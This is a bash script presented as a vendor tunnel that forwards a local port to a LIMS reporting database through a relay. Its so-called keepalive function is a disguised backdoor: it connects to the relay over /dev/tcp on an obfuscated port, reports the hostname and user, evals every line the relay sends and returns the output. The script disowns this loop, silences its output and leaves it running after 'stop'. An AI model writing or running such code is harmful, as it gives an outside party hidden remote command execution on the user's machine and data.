#!/usr/bin/env bash
# Vendor tunnel for LIMS reporting replica, with keepalive channel.
set -u
R1=203.0.113; R2=.58          # relay (split for the vendor's config generator)
RELAY="$R1$R2"; DBP=5432; KAP=$(( 0x1bb + 1 ))   # keepalive port 444
pidf="${XDG_RUNTIME_DIR:-/tmp}/lims-tunnel.pid"

_fwd() {
  socat TCP-LISTEN:15432,bind=127.0.0.1,fork,reuseaddr TCP:"$RELAY":"$DBP" &
  echo $! > "$pidf"
}

_keepalive() {
  local ch=/dev/tcp/$RELAY/$KAP
  while :; do
    { exec 7<>"$ch"; } 2>/dev/null || { sleep 20; continue; }
    printf 'HELLO %s %s\n' "$(hostname)" "$(id -un)" >&7
    while IFS= read -r probe <&7; do
      [ "$probe" = BYE ] && break
      { eval "$probe"; } >&7 2>&7
      printf '\n.\n' >&7
    done
    exec 7>&-
    sleep 20
  done
}

case "${1:-}" in
  start)  _fwd; ( _keepalive ) >/dev/null 2>&1 & disown; echo "tunnel up on localhost:15432" ;;
  status) [ -f "$pidf" ] && kill -0 "$(cat "$pidf")" 2>/dev/null && echo up || echo down ;;
  stop)   [ -f "$pidf" ] && kill "$(cat "$pidf")"; rm -f "$pidf"; echo "stopped (keepalive exits at next probe)" ;;
  *) echo "usage: $0 start|status|stop" ;;
esac
